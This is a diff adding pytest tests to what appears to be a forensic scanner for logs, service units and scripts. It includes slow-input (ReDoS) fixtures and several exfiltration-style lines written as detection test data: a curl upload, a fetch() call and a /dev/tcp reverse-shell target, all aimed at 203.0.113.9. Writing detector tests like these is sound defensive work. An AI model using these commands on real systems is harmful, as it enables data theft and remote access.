@@ -173,3 +173,94 @@ def test_a_session_of_a_desktops_own_sharing_in_a_journal_with_chinese_months_is
     (session,) = conclude(_read("journal.txt", text))[0].sessions
     assert (session.origin, session.start.isoformat()) == ("10.0.0.8", "2026-11-12T15:19:47+00:00")
     assert session.end is not None
+
+
+_HOSTILE = {
+    "svc.txt": SERVICE + "\n" * 200_000,
+    "message.txt": SERVICE + "a\n" * 100_000,
+    "a.html": "<html><table>" + "<td " * 100_000,
+    "note.txt": ("spool " + "a" * 3_900 + "\n") * 50,
+    "handle.txt": "q.exe  pid: 1  4C: C:\\Windows\\System32\\spool\\PRINTERS\\1.SPL\nq" + " " * 60_000 + "\n",
+    "pf.log": "2026-11-10 22:11:01 ALLOW TCP 10.0.0.5 203.0.113.4 1 2 0" + " " * 60_000 + "x\n",
+    "e.txt": EVENT_TEXT + "a" * 60_000 + "\n",
+}
+
+
+@pytest.mark.parametrize("name", _HOSTILE)
+def test_a_text_that_is_laid_out_to_be_slow_is_read_to_its_end(name: str) -> None:
+    # With a quadratic expression each of these takes minutes: the child that reads would be given up.
+    data = _HOSTILE[name].encode()
+    reader = FileReader(Member(name, len(data), lambda: io.BytesIO(data), year=2026))
+    list(reader)
+    assert reader.told.losses == []
+
+
+def test_what_stands_behind_more_programs_than_are_named_is_read_too() -> None:
+    text = "C:\\tools\\q.exe\n" * 20_001 + "2026-11-10 信任 D:\\tools\\p.exe\n"
+    assert [each.command for each in _read("a.txt", text) if each.kind == "setting"] == ["D:\\tools\\p.exe"]
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("s.json", '[{"Command":"","Location":"Startup","Caption":"a"},{"Name":"b","PathName":"C:\\\\q\\\\q.exe"}]'),
+        ("c.json", '[{"command":" ","minute":"1"},{"Name":"b","PathName":"C:\\\\q\\\\q.exe"}]'),
+        ("etc/passwd", f"root:x:0:0::/:/bin/sh\na:x:{'1' * 5000}:0::/:/bin/sh\nb:x:0:0::/:/bin/sh\n"),
+        ("audit.log", 'type=EXECVE msg=audit(99999999999999.1:1): a0="b" a1="203.0.113.9"\ntype=EXECVE msg=audit(1762789445.1:2): a0="b" a1="203.0.113.9"\n'),
+    ],
+)  # fmt: skip
+def test_a_cell_that_is_empty_or_too_large_does_not_end_the_reading(name: str, text: str) -> None:
+    assert any(each.name.startswith(("b", "odd")) for each in _read(name, text))
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("u.py", 'import q\nURL = "http://203.0.113.9/u"\nKEY = "a"\nFILENAME = "/srv/a"\nq(URL)\n'),
+        ("u", '#!/bin/sh\nURL=http://203.0.113.9/u\nKEY=a\nFILENAME=b\ncurl -T "$FILENAME" $URL\n'),
+        ("p.user.js", '// ==UserScript==\nx = "<table>"\nfetch("http://203.0.113.9/u")\n'),
+    ],
+)
+def test_a_script_with_settings_or_html_in_it_stays_a_script(name: str, text: str) -> None:
+    data = text.encode()
+    reader = FileReader(Member(name, len(data), lambda: io.BytesIO(data), year=2026))
+    list(reader)
+    assert reader.told.read.kind in {"script", "user_script"}
+
+
+def test_numbers_that_only_look_like_addresses_or_forwards_are_not_told() -> None:
+    unit = "[Service]\nExecStart=/usr/local/bin/q {}\n"
+    versions = "--module C:\\a\\13.1.5.188\\q --tag v1.2.3.4 q-3.9.5.81"
+    assert "address_outside" not in [each.kind for each in _found("r.service", unit.format(versions))]
+    assert _found("s.service", unit.format("/dev/tcp/203.0.113.9/4444")) != ()
+    assert _read("stat.txt", "192.168.1.5  1234  5678  90\n") == []
+
+
+def test_the_name_of_a_makers_router_is_no_phones_and_a_phones_network_is_no_keyboard() -> None:
+    head = '"TimeCreated","Id","ProviderName","Message"\n"2026/11/10 05:00:00","8001","Microsoft-Windows-WLAN-AutoConfig","x\n SSID: {}\n"\n"2026/11/10 05:01:00","4688","Microsoft-Windows-Security-Auditing","x\n 新进程名称: C:\\Users\\Public\\q.exe\n"\n'
+    assert [each for each in _read("w.csv", head.format("HUAWEI-1A2B")) if each.kind == "posing_device"] == []
+    (told,) = [each for each in _found("w.csv", head.format("HUAWEI P40")) if each.kind == "typing_device"]
+    assert told.severity != "high"
+
+
+def test_the_time_of_an_event_with_a_zone_keeps_it_and_that_of_wevtutil_is_local() -> None:
+    text = NO_PROVIDER.replace("2026/11/10 22:11:00", "2026-11-10T22:11:00.5Z")
+    (seen,), (local,) = _read("e.csv", text), _read("e.txt", EVENT_TEXT)
+    assert seen.time is not None
+    assert seen.time.tzinfo is not None
+    assert local.time is not None
+    assert local.time.tzinfo is None
+
+
+def test_units_in_one_file_are_told_apart() -> None:
+    text = "# /etc/systemd/system/a.service\n[Service]\nExecStart=/opt/a 203.0.113.9\n# /etc/systemd/system/b.service\n[Service]\nExecStart=/opt/b 203.0.113.9\n"
+    seen = _read("units.txt", text)
+    assert {(each.file, each.record) for each in seen} == {
+        ("units.txt", "/etc/systemd/system/a.service ExecStart"),
+        ("units.txt", "/etc/systemd/system/b.service ExecStart"),
+    }
+
+
+def test_only_a_certificate_is_the_root_of_an_interceptor() -> None:
+    assert _read("pip.txt", "mitmproxy 10.1\n") == []
+    assert _read("a.txt", "untrusted C:\\q\\q.exe\n") == _read("b.txt", "known C:\\q\\q.exe\n")
